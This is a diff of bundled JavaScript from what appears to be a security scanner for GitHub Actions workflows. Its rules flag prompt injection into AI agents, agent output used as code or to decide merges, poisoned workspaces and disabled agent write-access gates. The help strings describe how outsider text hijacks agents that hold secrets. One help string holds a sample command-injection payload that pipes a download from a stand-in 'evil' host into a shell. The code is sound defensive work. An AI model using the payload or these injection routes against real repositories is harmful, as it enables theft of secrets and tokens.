+  { uses: /^google-github-actions\/auth@/i, leaves: "GCP credentials (gha-creds-*.json in the workspace, GOOGLE_APPLICATION_CREDENTIALS)" },
+  { uses: /^aws-actions\/configure-aws-credentials@/i, leaves: "AWS credentials (AWS_ACCESS_KEY_ID/AWS_SESSION_TOKEN in the environment)" },
+  { uses: /^azure\/login@/i, leaves: "Azure credentials (the az CLI token cache in HOME)" }
+];
+function cloudLogins(step) {
+  const out = [];
+  const own = step.step.with.find((w) => /workload_identity_provider|workload-identity-provider|role-to-assume/i.test(w.name) && w.text.trim());
+  if (own) out.push(`cloud credentials minted by this step (input ${own.name})`);
+  for (const s of step.job.steps) {
+    if (s.position >= step.position) break;
+    const hit = CLOUD_LOGINS.find((c) => c.uses.test(s.step.uses?.text ?? ""));
+    if (hit && !out.includes(hit.leaves)) out.push(hit.leaves);
+  }
+  return out;
+}
+function persistedCheckout(step) {
+  return step.job.steps.some((s) => {
+    if (s.position >= step.position) return false;
+    if (!/^actions\/checkout@/i.test(s.step.uses?.text ?? "")) return false;
+    const persist = inputOf(s.step.with, "persist-credentials")?.text;
+    return persist === void 0 || !/^false$/i.test(persist.trim());
+  });
+}
+function describeCapabilities(c) {
+  const out = [];
+  if (c.jailed) out.push("jailed:agent-guard-run");
+  for (const g of c.grants ?? []) out.push(`grant:${g} (through the guard, no token in the agent)`);
+  if (c.remoteAgent) out.push(`remote-agent: ${c.remoteAgent}`);
+  for (const cmd of c.commands ?? []) out.push(`command:${cmd.name} (${cmd.what}; ${cmd.writes.map((w) => `${w}:write`).join(", ")})`);
+  for (const s of c.secrets) out.push(`secret:${s.name}${s.modelKey ? " (model key)" : ""} via ${s.via}`);
+  for (const t of c.tokens) out.push(`github-token:${t.foreign ? "pat-or-app-token" : "GITHUB_TOKEN"} via ${t.via}`);
+  if (c.permissionsDefault) out.push("permissions:default (write-all where the repository default is permissive)");
+  else for (const s of c.writeScopes) out.push(`permission:${s}:write`);
+  if (c.idToken) out.push("permission:id-token:write (OIDC)");
+  for (const cloud of c.cloudCredentials) out.push(`cloud:${cloud}`);
+  if (c.selfHosted) out.push("runner:self-hosted");
+  else if (c.tools.shell === "full" && !c.jailed) out.push("actions-cache:write (poisons caches that release workflows restore)");
+  if (c.tools.shell !== "none") out.push(`shell:${c.tools.shell}`);
+  if (c.tools.network) out.push("network:unrestricted");
+  if (c.tools.writesFiles) out.push("writes-files");
+  if (c.keyInProcess && c.secrets.some((s) => s.modelKey)) out.push("model-key-in-agent-process");
+  return out;
+}
+
+// src/checks/common.ts
+var CONFIDENCE_ORDER = { low: 0, medium: 1, high: 2 };
+function worstTaint(site, channels) {
+  let best = null;
+  for (const channel of channels) {
+    for (const taint of channel.taints) {
+      const reach = reachOf(taint.origin, site.step, site.actorGate);
+      if (reach.level === "none") continue;
+      const candidate = { channel, taint, reach };
+      if (!best || better(candidate, best)) best = candidate;
+    }
+  }
+  return best;
+}
+function better(a, b) {
+  const r = REACH_ORDER[a.reach.level] - REACH_ORDER[b.reach.level];
+  if (r) return r > 0;
+  const c = CONFIDENCE_ORDER[a.channel.confidence] - CONFIDENCE_ORDER[b.channel.confidence];
+  if (c) return c > 0;
+  return a.taint.hops.length < b.taint.hops.length;
+}
+function confidenceOf(hit) {
+  if (hit.reach.callersUnknown) return "low";
+  if (hit.reach.uncertain && hit.channel.confidence === "high") return "medium";
+  return hit.channel.confidence;
+}
+function siteLocation(site) {
+  const pos = positionOf(site.file, site.offset);
+  return { file: site.file.path, line: pos.line, column: pos.column };
+}
+function stepLocation(step, offset) {
+  const pos = positionOf(step.file, offset);
+  return { file: step.file.path, line: pos.line, column: pos.column };
+}
+function jobAndStep(step) {
+  return { job: step.job.job.id, step: step.step.label, stepAt: stepAnchor(step.file, step.step) };
+}
+var IDENTIFYING_KEYS = /* @__PURE__ */ new Set(["name", "id", "uses", "run"]);
+function stepAnchor(file, step) {
+  const lines = [step.node.start, ...step.node.pairs.filter((p) => IDENTIFYING_KEYS.has(p.key.text)).map((p) => p.key.start)].map((offset) => positionOf(file, offset).line);
+  return { file: file.path, position: step.index + 1, lines: [...new Set(lines)].sort((a, b) => a - b) };
+}
+function pathOf(site, hit, sinkNote) {
+  const loc2 = siteLocation(site);
+  return [...site.step.job.via, ...actionCalls(site.step, hit.taint.hops), ...hit.taint.hops, { ...loc2, note: sinkNote }];
+}
+function actionCalls(step, hops) {
+  const out = [];
+  for (let f = step.frame; f; f = f.callerStep.frame) {
+    const caller = f.callerStep;
+    const uses = caller.step.uses;
+    if (!uses) continue;
+    const pos = positionOf(caller.file, uses.start);
+    out.unshift({ file: caller.file.path, line: pos.line, column: pos.column, note: `step '${caller.step.label}' runs ${uses.text}` });
+  }
+  const outermost = out[0]?.file;
+  return outermost && hops.some((h) => h.file === outermost) ? [] : out;
+}
+function severityOf(hit, caps) {
+  return severityFor(hit.reach.level, caps);
+}
+function capabilityList(caps) {
+  return describeCapabilities(caps);
+}
+var PROVIDER_BY_KEY = { anthropic: "anthropic", openai: "openai", gemini: "gemini" };
+function fixFor(site, hit) {
+  const lines = [];
+  const event = hit?.reach.trigger?.event;
+  const obj3 = gateObject(event);
+  const c = site.capabilities;
+  if (hit && !c.jailed && (hit.reach.level === "outsider" || hit.reach.level === "outsider-unprivileged")) {
+    if (obj3) {
+      lines.push(
+        `Gate the job on who wrote the text: \`if: contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.${obj3}.author_association)\`.`
+      );
+    } else {
+      lines.push("Do not run the agent on events outsiders can fire, or gate the job on the actor's write access.");
+    }
+  }
+  const w = site.gateWidenedBy;
+  if (w && !w.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\` so the action's own write-access check applies.`);
+  if (w?.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\`: it opens the agent to outsiders as soon as \`${w.inertWithout}\` is set.`);
+  if (c.jailed) {
+    lines.push(
+      "The agent runs in the jail and holds nothing; what remains is what its output and its writes to the workspace can steer: treat them as untrusted, and let a job without AI check them (an allowlist, a schema) before anything acts on them (see poisoned-workspace and ai-output-unsafe)."
+    );
+  }
+  if (c.writeScopes.length || c.idToken) {
+    lines.push(
+      c.jailed ? "The job's write permissions belong to the guard: grant the agent only the writes it needs (`--grant comment`, `--grant label=bug,question`, or the Action's `grants`); each request is checked and performed with a token the agent never sees." : "Give the agent job `permissions: { contents: read }` (no id-token), and let the guard do the writes it needs: `agent-guard run --grant comment --grant label=bug,question ...` (the Action's `grants`) checks each request and performs it with a token the agent never sees, and `--defer` moves the writes to a job without AI."
+    );
+  }
+  if (c.tokens.some((t) => t.foreign)) lines.push("Do not hand the agent a personal access token or App token; use the job's short-lived GITHUB_TOKEN with read permissions.");
+  if (c.persistedCredentials) lines.push("Set `persist-credentials: false` on actions/checkout.");
+  if (c.secrets.some((s) => !s.modelKey)) lines.push(`Move secrets the agent does not need (${c.secrets.filter((s) => !s.modelKey).map((s) => s.name).join(", ")}) out of its job.`);
+  const provider = providerFor(site);
+  if (site.cli && !c.jailed) {
+    lines.push(`Run it in the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.cli.commands[0]} ...\` (no secrets, no network but the model API, the key held by a proxy).`);
+  } else if (site.action) {
+    if (c.jailed) {
+    } else if (site.action.id.startsWith("claude-code-action")) {
+      lines.push("Run Claude Code in the jail: `agent-guard wrap claude` installs a wrapper; set `path_to_claude_code_executable` to it.");
+    } else if (site.action.cli) {
+      lines.push(`Replace the action with its CLI under the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.action.cli} ...\`.`);
+    }
+  }
+  if (site.api?.kind === "agent") {
+    lines.push(`${site.api.name} ${site.api.acts}: start it only from text a maintainer wrote or approved (a label, a maintainer's comment), never from an outsider's issue or comment.`);
+  }
+  if (hit && !c.jailed && (hit.channel.kind === "prompt" || hit.channel.kind === "script" || hit.channel.kind === "env")) {
+    lines.push("Pass outsider text as data the agent reads with no tools that matter, never as instructions: moving it into env: protects a shell, not a prompt.");
+  }
+  return lines.join(" ");
+}
+function providerFor(site) {
+  const p = site.cli?.provider;
+  if (p) return p;
+  return site.action?.cli ? PROVIDER_BY_KEY[site.action.cli] : void 0;
+}
+function gateObject(event) {
+  switch (event) {
+    case "issues":
+      return "issue";
+    case "issue_comment":
+    case "discussion_comment":
+    case "pull_request_review_comment":
+      return "comment";
+    case "pull_request_target":
+    case "pull_request":
+      return "pull_request";
+    case "pull_request_review":
+      return "review";
+    case "discussion":
+      return "discussion";
+    default:
+      return null;
+  }
+}
+function describeReach(hit) {
+  switch (hit.reach.level) {
+    case "outsider":
+      return hit.reach.how;
+    case "outsider-unprivileged":
+      return `${hit.reach.how} (from a fork: no secrets, read-only token)`;
+    case "maintainer":
+    case "action-gated":
+      return hit.reach.how;
+    default:
+      return "not reachable";
+  }
+}
+
+// src/checks/agentGateDisabled.ts
+var agentGateDisabled = {
+  meta: {
+    id: "agent-gate-disabled",
+    title: "An agent action's built-in write-access check is switched off",
+    severity: "high",
+    docs: docsUrl("agent-gate-disabled"),
+    help: 'claude-code-action, droid-action, codex-action and opencode refuse to run for users without write access unless an input opens them (`allowed_non_write_users: "*"`, `allowed_bots: "*"`, `allow-users: "*"`). On a trigger outsiders can fire, that input hands the agent, and everything it holds, to anyone who can open an issue. Remove the input, or keep it only on a job that holds nothing.'
+  },
+  run(ctx) {
+    const findings = [];
+    for (const site of ctx.sites) {
+      const widened = site.gateWidenedBy;
+      if (!widened) continue;
+      const reach = reachOf(TRIGGERING_ACTOR, site.step);
+      if (reach.level !== "outsider") continue;
+      const openToAnyone = widened.value.trim() === "*" || widened.effect === "anyone";
+      const holding = holdingOf(site.capabilities);
+      let severity = holding === "nothing" ? "medium" : "high";
+      if (widened.effect === "bots" || !/^\*$/.test(widened.value.trim())) severity = holding === "nothing" ? "low" : "medium";
+      if (widened.inertWithout) severity = "low";
+      const at = widened.node?.start ?? site.offset;
+      findings.push({
+        rule: "agent-gate-disabled",
+        severity,
+        confidence: "high",
+        ...stepLocation(site.step, at),
+        ...jobAndStep(site.step),
+        message: widened.inertWithout ? `\`${widened.input}: ${widened.value.trim()}\` would switch off ${site.agentName}'s write-access check, and does as soon as \`${widened.inertWithout}\` is set: ${reach.how}.` : `\`${widened.input}: ${widened.value.trim()}\` switches off ${site.agentName}'s write-access check${openToAnyone ? "" : " for the listed users or bots"}: ${reach.how}.`,
+        path: [],
+        capabilities: capabilityList(site.capabilities),
+        fix: fixFor(site, null)
+      });
+    }
+    return findings;
+  }
+};
+
+// src/checks/agentOutputLeak.ts
+var TRANSCRIPTS = /\.claude\/projects|\.claude\b|\.gemini\/tmp|\.codex\/sessions|\.codex\b|transcript|session[-_ ]?log|\.opencode|\.goose/i;
+var agentOutputLeak = {
+  meta: {
+    id: "agent-output-leak",
+    title: "An outsider-reachable agent's full output or transcripts are published",
+    severity: "medium",
+    docs: docsUrl("agent-output-leak"),
+    help: "Workflow logs, step summaries and artifacts of a public repository are public. Inputs like claude-code-action's `show_full_output`, run-gemini-cli's `gemini_debug` and `upload_artifacts`, or an upload of the agent's session folder, publish everything the agent saw and did \u2014 a hijacked agent only has to read a secret to publish it, since secret masking covers only values GitHub knows. Leave these off on jobs outsiders can trigger, and upload only the structured result the next job needs."
+  },
+  run(ctx) {
+    const findings = [];
+    for (const site of ctx.sites) {
+      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
+      if (reach.level !== "outsider" && reach.level !== "maintainer") continue;
+      for (const leak of leaks(site)) {
+        findings.push({
+          rule: "agent-output-leak",
+          severity: reach.level === "outsider" && !site.capabilities.jailed ? "medium" : "low",
+          confidence: "medium",
+          ...stepLocation(leak.step, leak.offset),
+          ...jobAndStep(leak.step),
+          message: `${leak.what} of ${site.agentName} (step '${site.step.step.label}'): ${reach.how}.`,
+          path: [],
+          capabilities: capabilityList(site.capabilities),
+          fix: "Turn it off on jobs outsiders can reach; publish only a validated, structured result."
+        });
+      }
+    }
+    return findings;
+  }
+};
+function leaks(site) {
+  const out = [];
+  for (const name of site.action?.leakInputs ?? []) {
+    const entry = inputOf(site.step.step.with, name);
+    const value = entry?.text.trim().toLowerCase() ?? "";
+    if (entry && value && value !== "false" && value !== "0" && value !== "manual" && value !== "disabled") {
+      out.push({ step: site.step, offset: entry.value.start, what: `\`${entry.name}: ${entry.text.trim()}\` publishes the output` });
+    }
+  }
+  for (const later of site.step.job.steps) {
+    if (later.position <= site.step.position || !/^actions\/upload-artifact@/i.test(later.step.uses?.text ?? "")) continue;
+    const path21 = inputOf(later.step.with, "path");
+    if (path21 && TRANSCRIPTS.test(path21.text)) {
+      out.push({ step: later, offset: path21.value.start, what: `step '${later.step.label}' uploads the session transcripts (${path21.text.trim()})` });
+    }
+  }
+  return out;
+}
+
+// src/checks/siteRule.ts
+function siteRule(meta, origins2, message, sinkNote) {
+  return {
+    meta,
+    run(ctx) {
+      const findings = [];
+      for (const site of ctx.sites) {
+        const channels = site.channels.map((c) => ({ ...c, taints: c.taints.filter((t) => origins2.includes(t.origin.kind)) })).filter((c) => c.taints.length);
+        const hit = worstTaint(site, channels);
+        if (!hit) continue;
+        const severity = severityOf(hit, site.capabilities);
+        if (!severity) continue;
+        findings.push({
+          rule: meta.id,
+          severity,
+          confidence: confidenceOf(hit),
+          ...siteLocation(site),
+          ...jobAndStep(site.step),
+          message: `${message(site, hit)}: ${describeReach(hit)}.`,
+          path: pathOf(site, hit, `${sinkNote} (${hit.channel.name})`),
+          related: relatedSources(site, channels, hit),
+          capabilities: capabilityList(site.capabilities),
+          fix: fixFor(site, hit)
+        });
+      }
+      return findings;
+    }
+  };
+}
+function relatedSources(site, channels, chosen) {
+  const out = [];
+  const seen = /* @__PURE__ */ new Set([key(chosen.taint.hops[0])]);
+  for (const channel of channels) {
+    for (const taint of channel.taints) {
+      const first = taint.hops[0];
+      if (!first || seen.has(key(first))) continue;
+      if (reachOf(taint.origin, site.step, site.actorGate).level === "none") continue;
+      seen.add(key(first));
+      out.push(first);
+    }
+  }
+  return out.slice(0, 20);
+}
+function key(h) {
+  return h ? `${h.file}:${h.line}:${h.column}` : "";
+}
+
+// src/checks/agentReadsUntrusted.ts
+function commandsNote(site) {
+  const commands = site.capabilities.commands ?? [];
+  if (!commands.length) return "";
+  const names = commands.map((c) => c.name);
+  return `, and the commenter picks its command (${names.slice(0, 4).join(", ")}${names.length > 4 ? ", \u2026" : ""}), which writes with the job's token`;
+}
+var agentReadsUntrusted = siteRule(
+  {
+    id: "agent-reads-untrusted",
+    title: "An AI agent fetches outsider-written issues, comments or pull requests itself",
+    severity: "critical",
+    docs: docsUrl("agent-reads-untrusted"),
+    help: "The agent fetches the issue or pull-request thread (or is told to, e.g. `gh issue view`, GitHub MCP tools), so text written by anyone reaches it even though the workflow interpolates nothing. A scheduled agent that reads open issues is reachable by every outsider, one hour later. Treat the agent as holding untrusted input: no secrets, no write token, no shell, and run it under `agent-guard run`."
+  },
+  ["thread", "fetch"],
+  (site, hit) => `${site.agentName} reads ${hit.taint.origin.what}${commandsNote(site)}`,
+  "the agent reads it at run time"
+);
+
+// src/checks/templateInjection.ts
+function codeSinks(step) {
+  const out = [];
+  if (step.step.run) out.push({ node: step.step.run, what: "the run script" });
+  if (/^actions\/github-script@/i.test(step.step.uses?.text ?? "")) {
+    const script = inputOf(step.step.with, "script");
+    if (script?.value.kind === "scalar") out.push({ node: script.value, what: "the github-script script" });
+  }
+  return out;
+}
+function sinkTaints(step, node, engine) {
+  return engine.templates(node.text, (o, l) => locateInScalar(step.file, node, o, l), step.file, { job: step.job, step });
+}
+var templateInjection = {
+  meta: {
+    id: "template-injection",
+    title: "Outsider-controlled text is expanded into a shell script",
+    severity: "critical",
+    docs: docsUrl("template-injection"),
+    help: '`${{ }}` is expanded before the shell runs, so text like an issue title becomes code: `a"; curl evil | sh; echo "`. The script runs with every secret and token of the job. Pass the value through `env:` and use `"$VAR"` in the script.'
+  },
+  run(ctx) {
+    const findings = [];
+    for (const step of ctx.steps) {
+      for (const sink2 of codeSinks(step)) {
+        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
+          if (taint.origin.kind === "ai-output") continue;
+          const reach = reachOf(taint.origin, step);
+          const caps = shellCapabilities(step);
+          const severity = severityFor(reach.level, caps);
+          if (!severity) continue;
+          const sink3 = taint.hops[taint.hops.length - 1];
+          findings.push({
+            rule: "template-injection",
+            severity,
+            confidence: taint.hops.some((h) => h.note.startsWith("assumed")) ? "low" : "high",
+            file: sink3.file,
+            line: sink3.line,
+            column: sink3.column,
+            ...jobAndStep(step),
+            message: `${taint.origin.what} is expanded into ${sinkLabel(step)}: ${reach.how}.`,
+            path: [...step.job.via, ...taint.hops],
+            capabilities: capabilityList(caps),
+            holder: "step",
+            fix: 'Move the value into `env:` (e.g. `env: { TITLE: ${{ github.event.issue.title }} }`) and use "$TITLE" in the script, quoted.'
+          });
+        }
+      }
+    }
+    return findings;
+  }
+};
+function sinkLabel(step) {
+  return step.step.run ? `the run script of step '${step.step.label}'` : `the github-script of step '${step.step.label}'`;
+}
+
+// src/checks/aiOutputUnsafe.ts
+var MERGE = /\bgh\s+pr\s+(merge|review\b[^\n]*--approve)|pulls\.(merge|createReview)|enablePullRequestAutoMerge|auto-merge|--admin\b/;
+var aiOutputUnsafe = {
+  meta: {
+    id: "ai-output-unsafe",
+    title: "A model's output is used as code, as another agent's prompt, or to decide a merge",
+    severity: "critical",
+    docs: docsUrl("ai-output-unsafe"),
+    help: "Whoever steers the model's input steers its output. Expanding `${{ steps.ai.outputs.response }}` into a script turns a prompt injection into a command injection; feeding it to another agent chains the injection; letting it decide a merge or approval lets the outsider approve their own change. Pass model output through `env:` and treat it as data: validate it against a schema or an allowlist in a step without AI."
+  },
+  run(ctx) {
+    const findings = [];
+    for (const step of ctx.steps) {
+      let reachCache;
+      const reachOfStep = () => reachCache ??= reachOf(TRIGGERING_ACTOR, step);
+      for (const sink2 of codeSinks(step)) {
+        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
+          if (taint.origin.kind !== "ai-output") continue;
+          const reach2 = reachOfStep();
+          if (reach2.level === "none") continue;
+          const caps = shellCapabilities(step);
+          findings.push({ ...finding(step, taint, severityFor(reach2.level, caps) ?? "medium", `${taint.origin.what} is expanded into ${sink2.what} of step '${step.step.label}'`, reach2.how, capabilityList(caps)), holder: "step" });
+        }
+      }
+      const decides = step.step.run && MERGE.test(step.step.run.text) || MERGE.test(step.step.with.map((w) => w.text).join("\n"));
+      const reach = decides ? reachOfStep() : void 0;
+      if (decides && reach && reach.level !== "none") {
+        const inputs = [
+          ...step.conditions.map((c) => c.node),
+          ...step.job.conditions.map((c) => c.node)
+        ];
+        for (const node of inputs) {
+          const taints = ctx.engine.ofScalar(node, step.file, { job: step.job, step }).filter((t) => t.origin.kind === "ai-output");
+          for (const taint of taints.slice(0, 1)) {
+            findings.push(finding(step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} decides whether step '${step.step.label}' merges or approves`, reach.how, []));
+          }
+        }
+      }
+    }
+    for (const site of ctx.sites) {
+      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
+      if (reach.level === "none") continue;
+      for (const channel of site.channels) {
+        if (channel.kind !== "prompt" && channel.kind !== "config") continue;
+        const taint = channel.taints.find((t) => t.origin.kind === "ai-output");
+        if (!taint) continue;
+        const loc2 = siteLocation(site);
+        findings.push({
+          ...finding(site.step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} becomes the ${channel.name} of ${site.agentName}`, reach.how, capabilityList(site.capabilities)),
+          ...loc2,
+          path: [...taint.hops, { ...loc2, note: "the second agent reads it as instructions" }]
+        });
+      }
+    }
+    return findings;
+  }
+};
+function finding(step, taint, severity, message, how, capabilities) {
+  const sink2 = taint.hops[taint.hops.length - 1];
+  return {
+    rule: "ai-output-unsafe",
+    severity,
+    confidence: "high",
+    file: sink2.file,
+    line: sink2.line,
+    column: sink2.column,
+    ...jobAndStep(step),
+    message: `${message}: ${how}.`,
+    path: [...step.job.via, ...taint.hops],
+    capabilities,
+    fix: 'Pass the output through `env:` (`env: { ANSWER: ${{ steps.ai.outputs.response }} }`, then "$ANSWER") and validate it in a step without AI: parse it as JSON against a schema, intersect labels with an allowlist, never let it decide a merge.'
+  };
+}
+
+// src/checks/poisonedWorkspace.ts
+var EXECUTES_OR_PUBLISHES = /(^|[\s;&|(])(npm|npx|yarn|pnpm|bun|node|make|pip3?|python3?|poetry|tox|pytest|go|cargo|mvn|gradle|\.\/gradlew|rake|bundle|dotnet|docker\s+(build|push)|twine|gem\s+push|git\s+(commit|push)|gh\s+(release|pr\s+create)|\.\/[\w./-]+)(\s|$)/m;
+var poisonedWorkspace = {
+  meta: {
+    id: "poisoned-workspace",
+    title: "Steps after an outsider-reachable agent run or publish what the agent could write",
+    severity: "critical",
+    docs: docsUrl("poisoned-workspace"),
+    help: "An agent that read outsider text can write files in the workspace (package.json scripts, Makefiles, .git/hooks, lockfiles, source). Later steps of the same job that build, test, commit, push or publish run those files with the job's secrets \u2014 even when the agent itself was jailed. Run the agent in its own job and hand its result to the next job as a validated artifact (a patch reviewed by a human, JSON checked against a schema), or run it with `agent-guard run --workspace ro`."
+  },
+  run(ctx) {
+    const findings = [];
+    for (const site of ctx.sites) {
+      if (!site.capabilities.tools.writesFiles && site.capabilities.tools.shell === "none") continue;
+      if (site.cli && /--workspace[=\s]+ro\b/.test(site.promptText) && site.capabilities.jailed) continue;
+      const reach = bestReach(site);
+      if (!reach) continue;
+      const later = site.step.job.steps.filter((s) => s.position > site.step.position && executesOrPublishes(s));
+      for (const step of later) {
+        const caps = shellCapabilities(step);
+        const severity = reach.level === "outsider" ? caps.secrets.some((s) => !s.modelKey) || caps.writeScopes.length ? "critical" : "high" : "medium";
+        const at = step.step.run?.start ?? step.step.uses?.start ?? step.step.node.start;
+        findings.push({
+          rule: "poisoned-workspace",
+          severity,
+          confidence: "medium",
+          ...stepLocation(step, at),
+          ...jobAndStep(step),
+          message: `step '${step.step.label}' runs or publishes the workspace after ${site.agentName} (step '${site.step.step.label}') could write to it: ${reach.how}.`,
+          path: [{ ...siteLocation(site), note: `${site.agentName} reads outsider text and can write files` }, { ...stepLocation(step, at), note: "a later step executes or publishes the workspace" }],
+          capabilities: capabilityList(caps),
+          holder: "step",
+          fix: "Move the agent to its own job (no secrets) and pass its result as an artifact the next job validates; or run it with `agent-guard run --workspace ro`. Never build, commit or publish in the agent's job after it ran."
+        });
+      }
+    }
+    return findings;
+  }
+};
+function bestReach(site) {
+  let best = null;
+  for (const channel of site.channels) {
+    for (const taint of channel.taints) {
+      const reach = reachOf(taint.origin, site.step, site.actorGate);
+      if (reach.level === "none" || reach.level === "action-gated" || reach.level === "outsider-unprivileged") continue;
+      if (!best || REACH_ORDER[reach.level] > REACH_ORDER[best.level]) best = reach;
+    }
+  }
+  return best;
+}
+function executesOrPublishes(step) {
+  const uses = step.step.uses?.text ?? "";
+  if (uses.startsWith("./")) return true;
+  if (/^(softprops\/action-gh-release|peter-evans\/create-pull-request|stefanzweifel\/git-auto-commit-action|pypa\/gh-action-pypi-publish|JS-DevTools\/npm-publish)@/i.test(uses)) return true;
+  const run = step.step.run?.text;
+  return !!run && EXECUTES_OR_PUBLISHES.test(run);
+}
+
+// src/checks/promptInjection.ts
+var promptInjection = siteRule(
+  {
+    id: "prompt-injection",
+    title: "Outsider-controlled text reaches an AI agent",
+    severity: "critical",
+    docs: docsUrl("prompt-injection"),
+    help: "Text that anyone on the internet can write (an issue title, a comment, a branch name) reaches the prompt, configuration or environment of an AI agent. The agent cannot tell instructions from data, so the author of that text steers it and can use whatever the agent holds: secrets, the GitHub token, a shell, the network. Gate the job on the author, take every secret and write permission away from the agent job, and run the agent under `agent-guard run`."
+  },
+  ["context"],
+  (site, hit) => `${hit.taint.origin.what} reaches ${site.agentName} through ${hit.channel.name}`,
+  "the agent reads it"
+);
+
 // src/analysis/rulesData.ts
-var import_yaml4 = __toESM(require_dist());
+var import_yaml5 = __toESM(require_dist());
 
 // rules/agents.yml
 var agents_default = `# AI agents as they appear in GitHub Actions workflows: agent actions (\`uses:\`) and agent CLIs (\`run:\`).
@@ -20902,7 +20690,7 @@ var Ctx = class {
     this.file = file;
   }
   file;
-  lines = new import_yaml4.LineCounter();
+  lines = new import_yaml5.LineCounter();
   doc;
   fail(node, label, message) {
     const offset = node?.range?.[0] ?? 0;
@@ -20912,9 +20700,9 @@ var Ctx = class {
 };
 function describe(node) {
   if (node === null) return "nothing";
-  if ((0, import_yaml4.isMap)(node)) return "a mapping";
-  if ((0, import_yaml4.isSeq)(node)) return "a list";
-  if ((0, import_yaml4.isScalar)(node)) {
+  if ((0, import_yaml5.isMap)(node)) return "a mapping";
+  if ((0, import_yaml5.isSeq)(node)) return "a list";
+  if ((0, import_yaml5.isScalar)(node)) {
     const v = node.value;
     if (v === null) return "null";
     if (typeof v === "string") return `"${v.length > 40 ? `${v.slice(0, 40)}...` : v}"`;
@@ -20923,11 +20711,11 @@ function describe(node) {
   return "an unsupported node";
 }
 function convert(ctx, raw, spec, label, fallback) {
-  const node = raw && (0, import_yaml4.isAlias)(raw) ? raw.resolve(ctx.doc) ?? null : raw;
+  const node = raw && (0, import_yaml5.isAlias)(raw) ? raw.resolve(ctx.doc) ?? null : raw;
   const at = node ?? fallback;
   switch (spec.t) {
     case "string": {
-      if (!node || !(0, import_yaml4.isScalar)(node) || typeof node.value !== "string") ctx.fail(at, label, `expected a string, got ${describe(node)}`);
+      if (!node || !(0, import_yaml5.isScalar)(node) || typeof node.value !== "string") ctx.fail(at, label, `expected a string, got ${describe(node)}`);
       const value = node.value;
       if (spec.nonEmpty && !value.trim()) ctx.fail(at, label, "must not be empty");
       if (spec.enum && !spec.enum.includes(value)) ctx.fail(at, label, `expected one of ${spec.enum.map((e) => `"${e}"`).join(", ")}; got "${value}"`);
@@ -20939,11 +20727,11 @@ function convert(ctx, raw, spec, label, fallback) {
       return value;
     }
     case "boolean": {
-      if (!node || !(0, import_yaml4.isScalar)(node) || typeof node.value !== "boolean") ctx.fail(at, label, `expected true or false, got ${describe(node)}`);
+      if (!node || !(0, import_yaml5.isScalar)(node) || typeof node.value !== "boolean") ctx.fail(at, label, `expected true or false, got ${describe(node)}`);
       return node.value;
     }
     case "array": {
-      if (!node || !(0, import_yaml4.isSeq)(node)) ctx.fail(at, label, `expected a list, got ${describe(node)}`);
+      if (!node || !(0, import_yaml5.isSeq)(node)) ctx.fail(at, label, `expected a list, got ${describe(node)}`);
       if (spec.nonEmpty && node.items.length === 0) ctx.fail(node, label, "must not be empty");
       const out = [];
       const seen = /* @__PURE__ */ new Set();
@@ -20959,12 +20747,12 @@ function convert(ctx, raw, spec, label, fallback) {
       return out;
     }
     case "object": {
-      if (!node || !(0, import_yaml4.isMap)(node)) ctx.fail(at, label, `expected a mapping, got ${describe(node)}`);
+      if (!node || !(0, import_yaml5.isMap)(node)) ctx.fail(at, label, `expected a mapping, got ${describe(node)}`);
       const out = {};
       const fields = /* @__PURE__ */ new Map();
       for (const pair of node.items) {
         const keyNode = pair.key;
-        const key2 = keyNode && (0, import_yaml4.isScalar)(keyNode) ? keyNode.value : void 0;
+        const key2 = keyNode && (0, import_yaml5.isScalar)(keyNode) ? keyNode.value : void 0;
         if (typeof key2 !== "string") ctx.fail(keyNode ?? node, label, `expected a string key, got ${describe(keyNode)}`);
         const field = spec.fields[key2];
         const where = label ? `${label}.${key2}` : key2;
@@ -20986,7 +20774,7 @@ function convert(ctx, raw, spec, label, fallback) {
   }
 }
 function idSuffix(node) {
-  if (!node || !(0, import_yaml4.isMap)(node)) return "";
+  if (!node || !(0, import_yaml5.isMap)(node)) return "";
   for (const key2 of ["id", "event", "path", "input", "name"]) {
     const v = node.get(key2);
     if (typeof v === "string") return ` (${v})`;
@@ -21002,7 +20790,7 @@ function failAt(obj3, field, message) {
 }
 function parseWith(text, fileName, spec) {
   const ctx = new Ctx(fileName);
-  const doc = (0, import_yaml4.parseDocument)(text, { lineCounter: ctx.lines, prettyErrors: false, uniqueKeys: true });
+  const doc = (0, import_yaml5.parseDocument)(text, { lineCounter: ctx.lines, prettyErrors: false, uniqueKeys: true });
   ctx.doc = doc;
   const err = doc.errors[0];
   if (err) {
@@ -21617,9 +21405,9 @@ function inputValues(name, scope, depth) {
 function evaluateTemplate(inner, scope, depth) {
   const parsed = tryParseExpression(inner);
   if (parsed instanceof ExpressionSyntaxError) return null;
-  return evaluate(parsed, scope, depth);
+  return evaluate2(parsed, scope, depth);
 }
-function evaluate(e, scope, depth) {
+function evaluate2(e, scope, depth) {
   switch (e.kind) {
     case "literal":
       return [e.value];
@@ -21638,18 +21426,18 @@ function evaluate(e, scope, depth) {
       return null;
     }
     case "unary": {
-      const v = evaluate(e.operand, scope, depth);
-      return v && v.map((x) => !truthy(x));
+      const v = evaluate2(e.operand, scope, depth);
+      return v && v.map((x) => !truthy2(x));
     }
     case "binary": {
-      const left = evaluate(e.left, scope, depth);
-      const right = evaluate(e.right, scope, depth);
+      const left = evaluate2(e.left, scope, depth);
+      const right = evaluate2(e.right, scope, depth);
       if (!left || !right) return null;
       const out = [];
       for (const a of left) {
         for (const b of right) {
-          if (e.op === "&&") out.push(truthy(a) ? b : a);
-          else if (e.op === "||") out.push(truthy(a) ? a : b);
+          if (e.op === "&&") out.push(truthy2(a) ? b : a);
+          else if (e.op === "||") out.push(truthy2(a) ? a : b);
           else if (e.op === "==") out.push(equal(a, b));
           else if (e.op === "!=") out.push(!equal(a, b));
           else return null;
@@ -21658,7 +21446,7 @@ function evaluate(e, scope, depth) {
       return out.slice(0, MAX_CANDIDATES);
     }
     case "call": {
